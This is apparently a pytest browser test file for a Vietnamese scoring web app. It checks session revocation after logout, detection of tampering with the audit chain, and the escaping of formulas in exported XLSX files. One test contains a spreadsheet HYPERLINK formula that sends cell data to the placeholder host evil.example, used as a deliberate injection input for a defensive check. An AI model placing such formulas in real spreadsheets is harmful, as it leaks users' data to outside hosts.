"""Trust, in a real browser (Debian chromium + Playwright) against `kiemchung serve` on the embedded
store: a metadata correction end to end, a session that logout really ends, a tampered audit chain
shown to the auditor, and a formula typed as a reason that stays text in the downloaded XLSX."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlalchemy as sa
from axe_playwright_python.sync_playwright import Axe
from openpyxl import load_workbook
from playwright.sync_api import Browser, Page

from kiemchung.settings import Settings
from kiemchung.web.database import WEB_DATABASE_FILE
from tests.kiemchung.web.browser import check_phone_page, log_in, serving
from tests.kiemchung.web.conftest import PASSWORDS, fill_home, with_letter
from tests.kiemchung.web.corpus import UNIT, YEAR, Corpus


@pytest.fixture
def trust_home(sqlite_settings: Settings, corpus: Corpus, users_database: Path) -> Settings:
    """The test corpus with the letter's unit unrecognised (as the real Đồng Nai decision's was)."""
    fill_home(sqlite_settings, with_letter(corpus, unit=None, year=None, needs_review=["number"]), users_database)
    return sqlite_settings


@pytest.fixture
def site(trust_home: Settings, tmp_path: Path) -> Iterator[str]:
    with serving(trust_home, tmp_path / "server.log") as base:
        yield base


def _override(page: Page, site: str, criterion: str, points: str, reason: str) -> None:
    page.goto(f"{site}/scorecard?unit={UNIT}&year={YEAR}")
    row = page.locator(f"tr#tc-{criterion.replace('.', chr(92) + '.')}")
    row.locator("details.override summary").click()
    row.locator("input[name=points]").fill(points)
    row.locator("textarea[name=reason]").fill(reason)
    row.locator("button[value=override]").click()
    page.wait_for_url(f"**#tc-{criterion}")


def test_correction_flow(page: Page, site: str, corpus: Corpus, tmp_path: Path) -> None:
    sha = corpus.records["letter"].sha256
    log_in(page, site, "thamdinh", PASSWORDS["thamdinh"])
    page.click("nav.menu >> text=Cần rà soát")
    row = page.locator(f"tr.review-item[data-sha256='{sha}']")
    assert "chưa có đơn vị" in row.inner_text()
    page.screenshot(path=str(tmp_path / "1-review.png"), full_page=True)
    row.locator("a.button").click()
    page.wait_for_url(f"**/documents/{sha}/corrections")
    page.select_option("#correction-field", "unit")
    page.fill("#correction-value", UNIT)
    page.fill("textarea[name=reason]", "Công văn do UBND Quận 3 ban hành")
    page.click("form.correction-form button[type=submit]")
    assert "Đã ghi nhận" in page.locator("p.verify.ok").inner_text()
    assert "Công văn do UBND Quận 3 ban hành" in page.locator("table.corrections").inner_text()
    assert UNIT in page.locator("tr.field-unit td.value").inner_text()
    page.screenshot(path=str(tmp_path / "2-corrected.png"), full_page=True)
    scorecard = page.request.get(f"{site}/api/scorecard?unit={UNIT}&year={YEAR}").json()
    assert scorecard["documents"] == 3  # the letter now counts for its corrected unit
    page.goto(f"{site}/trace?unit={UNIT}&year={YEAR}&criterion=1")
    assert "Công văn do UBND Quận 3 ban hành" in page.locator("article.traced-doc table.corrections").inner_text()
    page.goto(f"{site}/review?show=no-unit")
    assert page.locator(f"tr.review-item[data-sha256='{sha}']").count() == 0


def test_session_revoked_after_logout(browser: Browser, page: Page, site: str) -> None:
    log_in(page, site, "kiemtoan", PASSWORDS["kiemtoan"])
    copied = page.context.cookies()
    page.click("form.who button[type=submit]")
    page.wait_for_url("**/login")
    thief = browser.new_context()
    thief.add_cookies(copied)  # the cookie as it was before logout, replayed from elsewhere
    tab = thief.new_page()
    tab.goto(f"{site}/search")
    assert "/login" in tab.url
    assert tab.request.get(f"{site}/api/search").status == 401
    thief.close()


def test_chain_tampering_detected(page: Page, site: str, trust_home: Settings, tmp_path: Path) -> None:
    log_in(page, site, "thamdinh", PASSWORDS["thamdinh"])
    _override(page, site, "1.1.1", "0,5", "Văn bản chưa đóng dấu")
    page.click("form.who button[type=submit]")
    log_in(page, site, "kiemtoan", PASSWORDS["kiemtoan"])
    page.goto(f"{site}/audit")
    assert "nguyên vẹn" in page.locator("p.verify.ok").inner_text()
    shell = sa.create_engine(f"sqlite:///{trust_home.home / WEB_DATABASE_FILE}")
    with shell.begin() as conn:  # someone with a database shell, behind the app
        conn.exec_driver_sql("DROP TRIGGER decisions_no_update")
        conn.exec_driver_sql("UPDATE decisions SET new_points = 1, reason = 'Đủ điều kiện'")
    shell.dispose()
    page.reload()
    alert = page.locator("p.alert[role=alert]").inner_text()
    assert "quyết định 1" in alert and "nội dung đã bị sửa" in alert
    page.screenshot(path=str(tmp_path / "audit-broken.png"), full_page=True)


def test_formula_neutralised(page: Page, site: str, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?d="&B2,"Xem chi tiết")'
    log_in(page, site, "thamdinh", PASSWORDS["thamdinh"])
    _override(page, site, "1.1.1", "0", formula)
    with page.expect_download() as download:
        page.click("a[href*='scorecard.xlsx']")
    path = tmp_path / "bang-diem.xlsx"
    download.value.save_as(path)
    workbook = load_workbook(path)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and "HYPERLINK" in cell.value]  # fmt: skip
    assert len(cells) == 1
    assert cells[0].data_type == "s" and cells[0].value == "'" + formula


def test_trust_pages_fit_a_phone_and_read_to_a_screen_reader(phone: Page, site: str, corpus: Corpus,
                                                             tmp_path: Path) -> None:  # fmt: skip
    log_in(phone, site, "quantri", PASSWORDS["quantri"])
    letter = corpus.records["letter"].sha256
    axe = Axe()
    for name, url in {"review": "/review", "corrections": f"/documents/{letter}/corrections",
                      "account": "/users/thamdinh", "password": "/account/password"}.items():  # fmt: skip
        check_phone_page(phone, f"{site}{url}", axe, tmp_path, name)
